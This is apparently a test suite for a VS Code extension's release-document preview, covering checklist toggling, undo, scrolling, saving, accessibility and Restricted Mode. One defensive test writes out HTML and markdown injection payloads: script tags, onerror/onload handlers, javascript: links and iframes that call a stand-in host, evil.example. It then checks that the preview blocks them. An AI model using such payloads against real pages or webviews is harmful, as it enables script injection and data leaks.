import * as vscode from "vscode";
import { assert } from "./assert.ts";
import { changed, closeAll, open, openText, until } from "./editor.ts";
import { hand } from "./hand.ts";
import { suite, testHost } from "./harness.ts";
import { box, checklist, closePreview, openFile, pageAsHeld, preview, shown } from "./preview-page.ts";

const runbook = "checkout-v2.2.0/runbook.md";
const manifest = "checkout-v2.2.0/release-manifest.yaml";
/** Only the embedded hosts run in a browser that the test can reach into. */
const reachable = testHost !== "electron";
const inBrowser = { when: reachable && vscode.workspace.isTrusted };
const restricted = { when: reachable && !vscode.workspace.isTrusted };

export const previewSuite = suite("preview", ({ test, afterEach }) => {
  afterEach(closeAll);

  test("opens beside its document", async () => {
    const editor = await open(manifest);
    await vscode.commands.executeCommand("releaseDocs.showPreviewToSide", editor.document.uri);
    const tab = await until(vscode.window.tabGroups.onDidChangeTabs, () =>
      vscode.window.tabGroups.all
        .flatMap(({ tabs }) => tabs)
        .find(
          ({ input, label }) => input instanceof vscode.TabInputWebview && label === "Preview Spring checkout v2.2.0",
        ),
    );
    assert.equal(tab.group.viewColumn, vscode.ViewColumn.Two);
  });

  for (const [path, gate, before, after] of [
    [runbook, "Backup of the address table verified", "- [ ] Backup of", "- [x] Backup of"],
    [runbook, "Container image", "sha256:77ab01c9         | [ ] ", "sha256:77ab01c9         | [x] "],
    [manifest, "Backups verified", "Backups verified\n      checked: false", "Backups verified\n      checked: true"],
  ] as const) {
    test(
      `answers “${gate}” by its box: one edit, one undo`,
      async () => {
        const editor = await open(path);
        const text = editor.document.getText();
        await preview(editor);
        await hand.click(box(gate));
        assert.equal(await changed(editor.document, text), text.replace(before, after));
        await shown(`${box(gate)}:checked`);
        await vscode.window.showTextDocument(editor.document, vscode.ViewColumn.One);
        await vscode.commands.executeCommand("undo");
        assert.equal(editor.document.getText(), text);
        await shown(`${box(gate)}:not(:checked)`);
      },
      inBrowser,
    );
  }

  test(
    "follows what is typed",
    async () => {
      const editor = await open(runbook);
      await preview(editor);
      await editor.edit((edit) => edit.insert(new vscode.Position(4, 0), "Typed words\n\n"));
      await shown('[data-line="4"]');
      assert.equal(await hand.evaluate(`document.querySelector('[data-line="4"]').textContent`), "Typed words");
    },
    inBrowser,
  );

  test(
    "is, after many edits, the page that a preview shows which is opened then",
    async () => {
      const body = [
        "- [ ] One\n- [ ] Two\n  - [ ] Nested\n- [x] Three\n",
        "| Check | Done |\n|---|---|\n| Smoke | [ ] |\n| Load | [x] |\n",
        "<details><summary>More</summary>\n\n1. Deploy vX.Y.Z\n2. Verify\n\n</details>\n",
        "```text\n- [ ] Fenced\n```\n\nLast words",
      ].join("\n");
      const editor = await openFile("edited.md", checklist(body));
      await preview(editor);
      const edits: readonly (readonly [string, string])[] = [
        ["- [ ] Two", "- [x] Two mark1"],
        ["  - [ ] Nested\n", "  - [ ] Nested mark2\n  - [ ] Another\n"],
        ["## Pre-Release", "\n\n## Pre-Release mark3"],
        ["| Load | [x] |\n", "| Load | [ ] |\n| Soak mark4 | ❌ |\n"],
        ["1. Deploy vX.Y.Z\n", "1. Deploy v2.0.0 mark5\n1. Wait\n"],
        ["- [ ] One\n", ""],
        ["Last words", "## Post-Release\n\n- [ ] mark6 [plan](./missing.md)\n"],
        ["status: in progress", "status: draft\nversion: mark7"],
        ["- [ ] Fenced", "- [x] Fenced mark8"],
      ];
      for (const [old, now] of edits) {
        const start = editor.document.getText().indexOf(old);
        const at = (offset: number): vscode.Position => editor.document.positionAt(offset);
        await editor.edit((edit) => edit.replace(new vscode.Range(at(start), at(start + old.length)), now));
        const [mark] = now.match(/mark\d/) ?? [];
        if (mark !== undefined) await shown(`#page :text("${mark}")`);
      }
      const held = await pageAsHeld();
      await closePreview();
      await preview(editor);
      assert.equal(held, await pageAsHeld());
    },
    inBrowser,
  );

  test(
    "jumps from a blocker to its place",
    async () => {
      const editor = await open(runbook);
      await preview(editor);
      await hand.click('.blockers a[data-jump="28:2"]');
      const selection = await until(vscode.window.onDidChangeTextEditorSelection, () => {
        const active = vscode.window.activeTextEditor?.selection.active;
        return active?.line === 28 ? active : undefined;
      });
      assert.equal(selection.character, 2);
    },
    inBrowser,
  );

  test(
    "scrolls with its editor, and its editor with it",
    async () => {
      const editor = await open(runbook);
      await preview(editor);
      const scrolled = hand.evaluate<number>(
        "new Promise((resolve) => addEventListener('scroll', () => resolve(scrollY), { once: true }))",
      );
      await hand.evaluate("0");
      editor.revealRange(new vscode.Range(60, 0, 60, 0), vscode.TextEditorRevealType.AtTop);
      assert.equal((await scrolled) > 0, true, "the preview stayed at its top");
      await hand.evaluate("window.scrollTo(0, 0)");
      await until(vscode.window.onDidChangeTextEditorVisibleRanges, () =>
        editor.visibleRanges[0]?.start.line === 0 ? true : undefined,
      );
    },
    inBrowser,
  );

  test(
    "never saves a dirty document, and saves a file that no editor shows",
    async () => {
      const editor = await openFile("saved.md", checklist("- [ ] One\n- [ ] Two"));
      const { document } = editor;
      await preview(editor);
      await editor.edit((edit) => edit.insert(document.lineAt(document.lineCount - 1).range.end, "Typed\n"));
      const typed = document.getText();
      await hand.click(box("One"));
      await changed(document, typed);
      assert.equal(document.isDirty, true);
      await document.save();
      await shown(`${box("One")}:checked`);
      await vscode.window.tabGroups.close(
        vscode.window.tabGroups.all.flatMap(({ tabs }) =>
          tabs.filter(({ input }) => input instanceof vscode.TabInputText),
        ),
      );
      const stored = new Promise<string>((resolve) => {
        vscode.workspace.onDidSaveTextDocument(
          (saved) => saved.uri.path.endsWith("/saved.md") && resolve(saved.getText()),
        );
      });
      await hand.click(box("Two"));
      assert.equal(await stored, typed.replaceAll("[ ]", "[x]"));
    },
    inBrowser,
  );

  test(
    "runs nothing and fetches nothing of a hostile document, typed or opened",
    async () => {
      const hostile = [
        "",
        "<script>document.title = 'ran'; fetch('https://evil.example/script')</script>\n",
        "<img src='https://evil.example/img.png' onerror='document.title = \"ran\"'>\n",
        "![huge](https://evil.example/99999x99999.png)\n",
        "<svg onload='document.title = \"ran\"'><image href='https://evil.example/svg.png'/></svg>\n",
        "<meta http-equiv='refresh' content='0;url=https://evil.example/meta'>\n",
        "<style>@import 'https://evil.example/css';</style>\n",
        "<div style='background:url(https://evil.example/bg)'>x</div>\n",
        "[a](javascript:document.title='ran') [b](data:text/html,<script>1</script>)\n",
        "<iframe src='https://evil.example/frame'></iframe>\n",
        "- [ ] Gate <b onclick=\"document.title='ran'\">bold</b>\n",
      ].join("\n");
      const editor = await openFile("hostile.md", checklist("- [ ] One"));
      await hand.seen();
      await preview(editor);
      await editor.edit((edit) =>
        edit.insert(editor.document.lineAt(editor.document.lineCount - 1).range.end, hostile),
      );
      await shown(box("Gate"));
      await closePreview();
      await preview(editor);
      assert.equal(
        await hand.evaluate(
          "document.querySelectorAll('script, img, svg, iframe, style, meta[http-equiv=refresh]').length - document.querySelectorAll('body > script[nonce], head > style, head > script').length",
        ),
        0,
      );
      assert.equal(await hand.evaluate("document.title === 'ran'"), false);
      const { requests, errors } = await hand.seen();
      assert.deepEqual(
        requests.filter((url) => url.includes("evil.example")),
        [],
      );
      assert.deepEqual(
        errors.filter((error) => /evil|Content Security Policy|Refused/.test(error)),
        [],
      );
    },
    inBrowser,
  );

  test(
    "zooms by keyboard",
    async () => {
      const editor = await open(runbook);
      await preview(editor);
      await hand.press("Control+=");
      assert.equal(await hand.evaluate("document.documentElement.style.fontSize"), "15.4px");
      await hand.press("Control+0");
      assert.equal(await hand.evaluate("document.documentElement.style.fontSize"), "14px");
    },
    inBrowser,
  );

  for (const theme of [
    "Default Light Modern",
    "Default Dark Modern",
    "Default High Contrast",
    "Default High Contrast Light",
  ]) {
    test(
      `breaks no rule of accessibility in ${theme}`,
      async () => {
        const settings = vscode.workspace.getConfiguration("workbench");
        await settings.update("colorTheme", theme, vscode.ConfigurationTarget.Global);
        try {
          for (const path of [manifest, runbook]) {
            await preview(await open(path));
            await hand.evaluate("document.querySelectorAll('details').forEach((details) => { details.open = true; })");
            assert.deepEqual(await hand.axe(), []);
            await closeAll();
          }
        } finally {
          await settings.update("colorTheme", undefined, vscode.ConfigurationTarget.Global);
        }
      },
      inBrowser,
    );
  }

  test(
    "answers nothing in Restricted Mode, and says why",
    async () => {
      await preview(await open(runbook));
      await shown(".read-only");
      assert.equal(await hand.evaluate("document.querySelectorAll('input:enabled').length"), 0);
      assert.match(await hand.evaluate("document.querySelector('.read-only').textContent"), /Restricted Mode/);
    },
    restricted,
  );

  test("says so of a file that is no release document", async () => {
    const editor = await openText("# Readme\n", "markdown");
    await vscode.commands.executeCommand("releaseDocs.showPreviewToSide", editor.document.uri);
    if (testHost !== "electron") await shown(".notice");
  });
});
